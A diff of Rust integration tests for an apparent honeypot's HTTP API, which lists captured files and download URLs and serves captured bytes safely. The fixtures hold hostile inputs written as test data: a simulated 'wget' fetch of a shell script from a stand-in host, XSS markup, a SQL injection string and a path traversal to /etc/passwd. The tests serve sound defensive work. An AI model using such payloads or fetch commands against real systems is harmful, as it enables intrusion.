@@ -810,6 +810,9 @@ async fn the_openapi_document_describes_every_route() {
         "/v1/ipaddresses/{ip}",
         "/v1/sessions/{id}",
         "/v1/analytics/summary",
+        "/v1/files",
+        "/v1/files/{sha256}",
+        "/v1/downloads",
     ] {
         assert!(paths.contains_key(route), "{route} missing");
     }
@@ -831,14 +834,500 @@ async fn the_openapi_document_describes_every_route() {
     assert!(params.contains(&"kind"), "{params:?}");
     assert!(params.contains(&"ip"), "{params:?}");
     let schemas = &doc["components"]["schemas"];
-    for schema in ["Scan", "OsResult", "Fingerprint", "P0fRow"] {
+    for schema in [
+        "Scan",
+        "OsResult",
+        "Fingerprint",
+        "P0fRow",
+        "File",
+        "Download",
+    ] {
         assert!(schemas.get(schema).is_some(), "{schema} missing");
     }
     let detail = &schemas["AddressDetail"]["properties"];
-    for key in ["os", "scans", "fingerprints"] {
+    for key in ["os", "scans", "fingerprints", "files", "downloads"] {
         assert!(
             detail.get(key).is_some(),
             "AddressDetail.{key} missing: {detail}"
         );
     }
+}
+
+/// The SSH session [`files_seed`] records, from [`SSH_PEER`].
+const SSH_SESSION: &str = "ssh-0001";
+/// Its source (a documentation address).
+const SSH_PEER: &str = "203.0.113.50";
+/// A path and a URL an attacker chose: markup, which no answer may turn into anything else.
+const HOSTILE_PATH: &str = "/tmp/<img src=x onerror=alert(3)>";
+const HOSTILE_URL: &str = "http://203.0.113.9/<script>alert(4)</script>.sh";
+/// The bytes of the file written over SSH: an ELF header, then HTML.
+const ELF: &[u8] = b"\x7fELF\x01\x01\x01\x00<html><script>alert(5)</script>";
+
+/// The SHA-256 of [`ELF`] (computed with `sha256sum`).
+const ELF_SHA256: &str = "815de3e540c69fd92d2327b5ba25cd920d7cea5ba13b49202379552e79965b99";
+
+/// An event of the SSH instance (`ssh`, table `ssh`) as the sensor records it (events.md).
+fn ssh_event(
+    session: &str,
+    peer: &str,
+    at: &str,
+    kind: store::EventType,
+    data: Value,
+) -> store::Event {
+    store::Event {
+        schema: store::SCHEMA_VERSION,
+        id: store::new_id(),
+        sensor: "test".into(),
+        session: session.into(),
+        time: at.into(),
+        kind,
+        plugin: "ssh".into(),
+        protocol: "ssh".into(),
+        src_ip: peer.parse().unwrap(),
+        src_port: 50000,
+        dst_ip: "127.0.0.1".parse().unwrap(),
+        dst_port: 8022,
+        data: data.as_object().unwrap().clone(),
+    }
+}
+
+/// An SSH session from [`SSH_PEER`] through the store's own writer: the client, a refused and
+/// an accepted login, a command, a download URL and a written file; and in the telnet session
+/// `s0000` another file and URL.
+fn files_seed(conn: &Connection) {
+    use base64::Engine;
+    use store::EventType as T;
+    use store::events::{SqliteSink, write_event};
+    use store::{Column, ColumnType, TableSpec};
+    let columns = [
+        "version",
+        "hassh",
+        "hassh_algorithms",
+        "method",
+        "username",
+        "password",
+        "key_type",
+        "key_fingerprint",
+        "outcome",
+        "input_type",
+        "user_input",
+        "unterminated",
+    ];
+    let spec = TableSpec {
+        name: "ssh".into(),
+        columns: columns
+            .iter()
+            .map(|c| Column::new(*c, ColumnType::Text))
+            .collect(),
+    };
+    store::schema::migrate_table(conn, &spec).unwrap();
+    let sink = SqliteSink::with_configured([("ssh", &spec)]);
+    let unknown = std::sync::atomic::AtomicU64::new(0);
+    let now = time::OffsetDateTime::now_utc().unix_timestamp();
+    let at = |ago: i64| stamp(now - ago);
+    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
+    let events = [
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(30),
+            T::SessionStart,
+            serde_json::json!({"table": "ssh"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(30),
+            T::SshClient,
+            serde_json::json!({
+            "version": "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
+            "hassh_algorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(29),
+            T::SshLogin,
+            serde_json::json!({
+            "method": "password", "username": "root", "password": "123456", "key_type": null,
+            "key_fingerprint": null, "outcome": "refused"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(28),
+            T::SshLogin,
+            serde_json::json!({
+            "method": "password", "username": "root", "password": "admin", "key_type": null,
+            "key_fingerprint": null, "outcome": "accepted"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(27),
+            T::SshCommand,
+            serde_json::json!({
+            "input_type": "exec", "user_input": "wget http://203.0.113.9/x.sh"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(27),
+            T::DownloadAttempt,
+            serde_json::json!({
+            "url": HOSTILE_URL, "command": "wget"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(26),
+            T::FileWritten,
+            serde_json::json!({
+            "path": HOSTILE_PATH, "size": ELF.len(), "sha256": ELF_SHA256, "data": b64(ELF),
+            "truncated": false, "via": "scp"}),
+        ),
+        ssh_event(
+            SSH_SESSION,
+            SSH_PEER,
+            &at(25),
+            T::SessionEnd,
+            serde_json::json!({
+            "bytes_in": 100, "bytes_out": 200, "reason": "peer closed"}),
+        ),
+    ];
+    for event in &events {
+        write_event(&sink, conn, event, &unknown).unwrap();
+    }
+    let mut telnet_file = ssh_event(
+        "s0000",
+        "198.51.100.7",
+        &at(40),
+        T::FileWritten,
+        serde_json::json!({
+        "path": "/var/tmp/.d", "size": 5000, "sha256": "a".repeat(64), "data": b64(b"abc"),
+        "truncated": true, "via": "redirect"}),
+    );
+    telnet_file.plugin = "telnet".into();
+    telnet_file.protocol = "telnet".into();
+    let mut telnet_url = ssh_event(
+        "s0000",
+        "198.51.100.7",
+        &at(41),
+        T::DownloadAttempt,
+        serde_json::json!({
+        "url": "tftp://198.51.100.20/m", "command": "tftp"}),
+    );
+    telnet_url.plugin = "telnet".into();
+    for event in [&telnet_file, &telnet_url] {
+        write_event(&sink, conn, event, &unknown).unwrap();
+    }
+    assert_eq!(unknown.load(std::sync::atomic::Ordering::Relaxed), 0);
+}
+
+/// `GET path` with the right token: status, the headers asked for, body.
+async fn get_with_headers(
+    app: &Router,
+    path: &str,
+    names: &[&str],
+) -> (StatusCode, Vec<Option<String>>, Vec<u8>) {
+    let request = Request::builder()
+        .uri(path)
+        .header(header::HOST, "localhost:8080")
+        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
+        .body(Body::empty())
+        .unwrap();
+    let response = app.clone().oneshot(request).await.unwrap();
+    let headers = names
+        .iter()
+        .map(|n| {
+            response
+                .headers()
+                .get(*n)
+                .map(|v| v.to_str().unwrap().to_owned())
+        })
+        .collect();
+    let status = response.status();
+    let body = axum::body::to_bytes(response.into_body(), usize::MAX)
+        .await
+        .unwrap()
+        .to_vec();
+    (status, headers, body)
+}
+
+#[tokio::test]
+async fn files_and_download_urls_are_listed_newest_first_filtered_and_paged() {
+    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, files_seed);
+    let page = get(&app, "/v1/files").await.json();
+    let items = page["items"].as_array().unwrap();
+    assert_eq!(items.len(), 2, "{page}");
+    let ssh = &items[0];
+    assert_eq!(ssh["sha256"], ELF_SHA256);
+    assert_eq!(ssh["path"], HOSTILE_PATH, "text as recorded, never altered");
+    assert_eq!(ssh["size"], ELF.len());
+    assert_eq!(ssh["storedBytes"], ELF.len());
+    assert_eq!(ssh["truncated"], false);
+    assert_eq!(ssh["via"], "scp");
+    assert_eq!(ssh["session"], SSH_SESSION);
+    assert_eq!(ssh["peerAddress"], SSH_PEER);
+    assert_eq!(ssh["localPort"], 8022);
+    assert!(ssh.get("data").is_none(), "never the bytes in a list");
+    assert_eq!(items[1]["truncated"], true);
+    assert_eq!(
+        (items[1]["size"].as_i64(), items[1]["storedBytes"].as_i64()),
+        (Some(5000), Some(3))
+    );
+
+    // Filters: the hash (any case), the address; a malformed hash or address is a 400.
+    let upper = ELF_SHA256.to_ascii_uppercase();
+    for path in [
+        format!("/v1/files?sha256={upper}"),
+        format!("/v1/files?ip={SSH_PEER}"),
+    ] {
+        let items = get(&app, &path).await.json()["items"]
+            .as_array()
+            .unwrap()
+            .clone();
+        assert_eq!(items.len(), 1, "{path}");
+        assert_eq!(items[0]["session"], SSH_SESSION, "{path}");
+    }
+    for (path, parameter) in [
+        ("/v1/files?sha256=abc", "sha256"),
+        ("/v1/files?sha256=' OR 1=1 --", "sha256"),
+        ("/v1/files?ip=nope", "ip"),
+        ("/v1/downloads?url=", "url"),
+        ("/v1/downloads?ip=nope", "ip"),
+    ] {
+        let a = get(&app, &path.replace(' ', "%20")).await;
+        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{path}");
+        assert_eq!(a.json()["parameter"], parameter, "{path}");
+    }
+    // A page of one continues at its cursor.
+    let first = get(&app, "/v1/files?limit=1").await;
+    assert!(
+        first
+            .link
+            .as_deref()
+            .is_some_and(|l| l.contains("rel=\"next\""))
+    );
+    let first = first.json();
+    let cursor = first["next_cursor"].as_str().unwrap();
+    let second = get(
+        &app,
+        &format!("/v1/files?limit=1&cursor={}", urlencode(cursor)),
+    )
+    .await
+    .json();
+    assert_eq!(second["items"][0]["path"], "/var/tmp/.d");
+    assert_eq!(second["next_cursor"], Value::Null);
+
+    let page = get(&app, "/v1/downloads").await.json();
+    let items = page["items"].as_array().unwrap();
+    assert_eq!(items.len(), 2, "{page}");
+    assert_eq!(items[0]["url"], HOSTILE_URL);
+    assert_eq!(items[0]["command"], "wget");
+    assert_eq!(items[0]["peerAddress"], SSH_PEER);
+    assert_eq!(items[1]["command"], "tftp");
+    let only = get(
+        &app,
+        &format!("/v1/downloads?url={}", urlencode("<script>")),
+    )
+    .await
+    .json();
+    assert_eq!(only["items"].as_array().unwrap().len(), 1);
+    let none = get(&app, "/v1/downloads?url=%25").await.json();
+    assert_eq!(none["items"], serde_json::json!([]), "no wildcards");
+    let telnet = get(&app, "/v1/downloads?ip=198.51.100.7").await.json();
+    assert_eq!(telnet["items"][0]["url"], "tftp://198.51.100.20/m");
+    let cursor_page = get(&app, "/v1/downloads?limit=1").await.json();
+    assert!(cursor_page["next_cursor"].is_string());
+}
+
+#[tokio::test]
+async fn a_files_bytes_come_only_as_an_inert_attachment() {
+    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, files_seed);
+    let names = [
+        "content-type",
+        "content-disposition",
+        "x-content-type-options",
+        "content-security-policy",
+    ];
+    let (status, headers, body) = get_with_headers(
+        &app,
+        &format!("/v1/files/{}", ELF_SHA256.to_ascii_uppercase()),
+        &names,
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body, ELF);
+    assert_eq!(headers[0].as_deref(), Some("application/octet-stream"));
+    assert_eq!(
+        headers[1].as_deref(),
+        Some(format!("attachment; filename=\"{ELF_SHA256}.bin\"").as_str())
+    );
+    assert_eq!(headers[2].as_deref(), Some("nosniff"));
+    assert!(headers[3].as_deref().is_some_and(|c| c.contains("sandbox")));
+    let (status, _, _) =
+        get_with_headers(&app, &format!("/v1/files/{}", "b".repeat(64)), &[]).await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    for bad in ["abc", "..%2F..%2Fetc%2Fpasswd", &"g".repeat(64)] {
+        let a = get(&app, &format!("/v1/files/{bad}")).await;
+        assert_eq!(a.status, StatusCode::BAD_REQUEST, "{bad}");
+    }
+    // The token guards the bytes as it guards the lists.
+    let a = send(
+        &app,
+        Method::GET,
+        &format!("/v1/files/{ELF_SHA256}"),
+        "localhost:8080",
+        &[],
+    )
+    .await;
+    assert_eq!(a.status, StatusCode::UNAUTHORIZED);
+}
+
+#[tokio::test]
+async fn ssh_sessions_show_where_telnet_sessions_do_with_their_files_and_urls() {
+    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, files_seed);
+    // The sessions list and the session itself, with its files, URLs and rows.
+    let sessions = get(&app, "/v1/sessions?limit=50").await.json();
+    let ssh = sessions["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["session"] == SSH_SESSION)
+        .expect("the SSH session in the list")
+        .clone();
+    assert_eq!(
+        (ssh["protocol"].as_str(), ssh["plugin"].as_str()),
+        (Some("ssh"), Some("ssh"))
+    );
+    assert_eq!(ssh["item_count"], 4, "client, two logins, a command");
+    let detail = get(&app, &format!("/v1/sessions/{SSH_SESSION}"))
+        .await
+        .json();
+    assert_eq!(detail["files"][0]["sha256"], ELF_SHA256);
+    assert_eq!(detail["files"][0]["path"], HOSTILE_PATH);
+    assert_eq!(detail["downloads"][0]["url"], HOSTILE_URL);
+    let types: Vec<&str> = detail["session_items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|i| i["eventType"].as_str())
+        .collect();
+    assert_eq!(
+        types,
+        ["ssh.client", "ssh.login", "ssh.login", "ssh.command"]
+    );
+    let telnet = get(&app, "/v1/sessions/s0000").await.json();
+    assert_eq!(telnet["files"][0]["via"], "redirect");
+    assert_eq!(telnet["downloads"][0]["command"], "tftp");
+    let other = get(&app, "/v1/sessions/s0001").await.json();
+    assert_eq!(
+        (other["files"].clone(), other["downloads"].clone()),
+        (serde_json::json!([]), serde_json::json!([]))
+    );
+
+    // The address: its session on the SSH port, its file and URL.
+    let address = get(&app, &format!("/v1/ipaddresses/{SSH_PEER}"))
+        .await
+        .json();
+    assert_eq!(address["files"][0]["sha256"], ELF_SHA256);
+    assert_eq!(address["downloads"][0]["url"], HOSTILE_URL);
+    let on_port = address["ports"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find_map(|p| p.get("8022"))
+        .expect("port 8022 listed");
+    assert_eq!(on_port[0]["session"], SSH_SESSION);
+
+    // Credentials and commands count SSH's as they count telnet's.
+    let creds = get(&app, "/v1/analytics/credentials").await.json();
+    let pairs: Vec<(String, String)> = creds["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| {
+            (
+                c["username"].as_str().unwrap().to_owned(),
+                c["password"].as_str().unwrap_or("").to_owned(),
+            )
+        })
+        .collect();
+    for pair in [("root", "123456"), ("root", "admin")] {
+        assert!(pairs.contains(&(pair.0.into(), pair.1.into())), "{pairs:?}");
+    }
+    let commands = get(&app, "/v1/analytics/commands").await.json();
+    assert!(
+        commands["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["command"] == "wget http://203.0.113.9/x.sh"),
+        "{commands}"
+    );
+
+    // The summary: files, URLs and SSH logins by outcome.
+    let summary = get(&app, "/v1/analytics/summary").await.json();
+    let summary = &summary["summary"];
+    assert_eq!(summary["files"], 2);
+    assert_eq!(summary["downloads"], 2);
+    let mut logins: Vec<(String, i64)> = summary["ssh_logins"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|k| {
+            (
+                k["key"].as_str().unwrap().to_owned(),
+                k["count"].as_i64().unwrap(),
+            )
+        })
+        .collect();
+    logins.sort();
+    assert_eq!(
+        logins,
+        [("accepted".to_string(), 1), ("refused".to_string(), 1)]
+    );
+}
+
+#[tokio::test]
+async fn a_store_older_than_files_answers_empty_lists_and_zero_counts() {
+    let (_dir, app) = service_with(Some(TOKEN), 1 << 20, |conn| {
+        files_seed(conn);
+        conn.execute_batch("DROP TABLE files; DROP TABLE downloads;")
+            .unwrap();
+    });
+    for path in [
+        "/v1/files",
+        "/v1/downloads",
+        &format!("/v1/files?sha256={ELF_SHA256}&ip={SSH_PEER}"),
+    ] {
+        let a = get(&app, path).await;
+        assert_eq!(a.status, StatusCode::OK, "{path}");
+        assert_eq!(a.json()["items"], serde_json::json!([]), "{path}");
+    }
+    let (status, _, _) = get_with_headers(&app, &format!("/v1/files/{ELF_SHA256}"), &[]).await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    let detail = get(&app, &format!("/v1/sessions/{SSH_SESSION}"))
+        .await
+        .json();
+    assert_eq!(detail["files"], serde_json::json!([]));
+    assert_eq!(detail["downloads"], serde_json::json!([]));
+    let address = get(&app, &format!("/v1/ipaddresses/{SSH_PEER}"))
+        .await
+        .json();
+    assert_eq!(address["files"], serde_json::json!([]));
+    let summary = get(&app, "/v1/analytics/summary").await.json();
+    assert_eq!(
+        (
+            summary["summary"]["files"].as_i64(),
+            summary["summary"]["downloads"].as_i64()
+        ),
+        (Some(0), Some(0))
+    );
+    assert_eq!(
+        summary["summary"]["ssh_logins"].as_array().unwrap().len(),
+        2,
+        "the SSH table is still there"
+    );
 }
